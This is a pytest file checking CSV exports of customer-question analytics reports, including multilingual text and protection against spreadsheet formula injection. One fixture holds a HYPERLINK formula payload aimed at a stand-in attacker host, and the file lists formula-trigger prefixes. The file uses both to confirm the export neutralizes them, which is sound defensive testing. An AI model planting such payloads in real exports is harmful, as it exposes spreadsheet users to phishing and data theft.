"""format=csv on the analytics reports: the CSV read back with the csv module says what the JSON says, with a
header row, UTF-8 text (Japanese, Chinese, Lithuanian) intact, and no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import pytest

from kb.stores import AnswerRecord, Feedback
from tests.helpers import bearer, new_key

TENANT = "export"
SINCE = datetime.now(UTC).replace(hour=0, minute=0, second=0, microsecond=0) - timedelta(days=15)
UNTIL = SINCE + timedelta(days=4)
PERIOD = {"since": SINCE.isoformat(), "until": UNTIL.isoformat()}
FILE_PERIOD = f"{SINCE:%Y-%m-%d}-{UNTIL:%Y-%m-%d}"
INJECTION = '=HYPERLINK("http://attacker.example/steal","Click me")'
# (query, language, channel, answered, times); the formula-like ones were asked as typed by a customer
ASKED = [
    ("Kiek kainuoja pristatymas į Šiaulius?", "lt", "chat", True, 3),
    ("配送料金はいくらですか？", "ja", "chat", False, 2),
    ("运费是多少？", "zh", "email", False, 2),
    (INJECTION, "en", "chat", False, 1),
    ("+370 600 00000 call me back", "en", "chat", False, 1),
    ("-1 star, where is my refund", "en", "email", True, 1),
    ("@support\tis anyone there", "en", "chat", False, 1),
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def admin(services):
    services.store.ensure_tenant(TENANT)
    records = []
    for query, language, channel, answered, times in ASKED:
        for _ in range(times):
            records.append(AnswerRecord(f"export-{len(records)}", TENANT, SINCE + timedelta(hours=5 * len(records)),
                                        channel, language, answered, "invoice" if answered else None,
                                        0.9 if answered else 0.1, query))
    services.store.answers.log(records)
    for feedback in (Feedback("export-0", helpful=True, resolved=True),
                     Feedback("export-1", helpful=False, reason="related_but_incomplete"),
                     Feedback("export-3", helpful=False, reason="not_related", contacted_support=True),
                     Feedback("export-4", helpful=False, reason="other")):
        assert services.store.answers.put_feedback(TENANT, feedback)
    return bearer(new_key(services, "admin", tenant=TENANT))


def report(client, admin, name, export_format, **params):
    response = client.get(f"/v1/analytics/{name}", params={**PERIOD, **params, "format": export_format},
                          headers=admin)
    assert response.status_code == 200, response.text
    return response


def csv_rows(response, name) -> tuple[list[str], list[dict[str, str]]]:
    """The CSV's header and rows, after checking it is a UTF-8 attachment named for the report and period."""
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert response.headers["content-disposition"] == f'attachment; filename="{name}-{FILE_PERIOD}.csv"'
    reader = csv.DictReader(io.StringIO(response.content.decode("utf-8"), newline=""))
    return list(reader.fieldnames), list(reader)


def cell(value) -> str:
    """A JSON value as the CSV writes it."""
    if value is None:
        return ""
    text = str(value)
    return "'" + text if text.startswith(FORMULA_STARTS) else text


def as_csv(item: dict) -> dict[str, str]:
    return {name: cell(value) for name, value in item.items()}


@pytest.mark.parametrize("name", ["top-questions", "unanswered"])
def test_question_reports_read_back_as_their_json(client, admin, name):
    items = report(client, admin, name, "json").json()
    # unanswered: the questions not answered, and the Lithuanian one once marked not helpful
    assert {item["query"] for item in items} == {query for query, _, _, answered, _ in ASKED
                                                 if name == "top-questions" or not answered or query == ASKED[0][0]}
    header, rows = csv_rows(report(client, admin, name, "csv"), name)
    if name == "top-questions":
        assert header == ["query", "count", "answer_rate", "last_asked"]
        assert rows == [as_csv(item) for item in items]
    else:
        assert header == ["query", "count", "not_answered", "not_helpful", "last_asked", "reasons.not_related",
                          "reasons.related_but_incomplete", "reasons.other"]
        assert rows == [as_csv({**{name: value for name, value in item.items() if name != "reasons"},
                                **{f"reasons.{reason}": item["reasons"].get(reason) for reason in
                                   ("not_related", "related_but_incomplete", "other")}}) for item in items]


def test_no_cell_starts_a_formula_and_every_script_survives(client, admin):
    _, rows = csv_rows(report(client, admin, "top-questions", "csv"), "top-questions")
    queries = [row["query"] for row in rows]
    assert "'" + INJECTION in queries and INJECTION not in queries
    assert {"'+370 600 00000 call me back", "'-1 star, where is my refund", "'@support\tis anyone there"} < set(queries)
    assert {"Kiek kainuoja pristatymas į Šiaulius?", "配送料金はいくらですか？", "运费是多少？"} < set(queries)
    assert not any(value.startswith(FORMULA_STARTS) for row in rows for value in row.values())


def test_the_summary_is_a_row_per_language_and_channel_and_a_total(client, admin):
    summary = report(client, admin, "summary", "json").json()
    header, rows = csv_rows(report(client, admin, "summary", "csv"), "summary")
    assert header == ["language", "channel", "answers", "answered", "answer_rate", "feedback", "helpful_rate",
                      "outcomes", "deflection_rate"]
    assert len(summary["by_language_and_channel"]) == 5
    assert rows == [as_csv(group) for group in summary["by_language_and_channel"]] + [
        as_csv({"language": "all", "channel": "all", **summary["total"]})]
    assert rows[-1]["answers"] == str(sum(times for *_, times in ASKED))


def test_daily_reads_back_as_its_json_and_an_empty_report_keeps_its_header(client, admin):
    days = report(client, admin, "daily", "json").json()["days"]
    assert {row["day"] for row in days} == {(SINCE + timedelta(days=n)).date().isoformat() for n in range(3)}
    header, rows = csv_rows(report(client, admin, "daily", "csv"), "daily")
    assert header == list(days[0]) and rows == [as_csv(row) for row in days]
    header, rows = csv_rows(report(client, admin, "daily", "csv", channel="ticket"), "daily")
    assert header == list(days[0]) and rows == []


def test_gaps_are_a_row_per_cluster_with_its_questions_joined(client, admin):
    gaps = report(client, admin, "gaps", "json").json()
    assert gaps["clusters"]
    header, rows = csv_rows(report(client, admin, "gaps", "csv"), "gaps")
    assert header == ["size", "texts", "first_half", "second_half", "languages.ja", "languages.zh", "languages.lt",
                      "languages.en", "questions", "nearest_article.id", "nearest_article.title",
                      "nearest_article.score"]
    assert len(rows) == len(gaps["clusters"])
    for row, cluster in zip(rows, gaps["clusters"]):
        nearest = cluster["nearest_article"] or {}
        assert row == as_csv({
            "size": cluster["size"], "texts": cluster["texts"], "first_half": cluster["first_half"],
            "second_half": cluster["second_half"],
            **{f"languages.{language}": cluster["languages"].get(language) for language in ("ja", "zh", "lt", "en")},
            "questions": " | ".join(question["text"] for question in cluster["questions"]),
            **{f"nearest_article.{name}": nearest.get(name) for name in ("id", "title", "score")}})
    assert any("配送料金はいくらですか？" in row["questions"] for row in rows)


@pytest.mark.parametrize("name", ["summary", "daily", "top-questions", "unanswered", "gaps"])
def test_another_format_is_a_422_and_json_is_the_default(client, admin, name):
    response = client.get(f"/v1/analytics/{name}", params={**PERIOD, "format": "xlsx"}, headers=admin)
    assert response.status_code == 422 and "format" in response.json()["detail"], response.text
    default = client.get(f"/v1/analytics/{name}", params=PERIOD, headers=admin)
    assert default.status_code == 200 and default.headers["content-type"] == "application/json"
    assert default.json() == report(client, admin, name, "json").json()


def test_the_openapi_document_offers_both_forms(client):
    paths = client.get("/openapi.json").json()["paths"]
    for name in ("summary", "daily", "top-questions", "unanswered", "gaps"):
        operation = paths[f"/v1/analytics/{name}"]["get"]
        assert set(operation["responses"]["200"]["content"]) == {"application/json", "text/csv"}
        assert any(parameter["name"] == "format" for parameter in operation["parameters"])
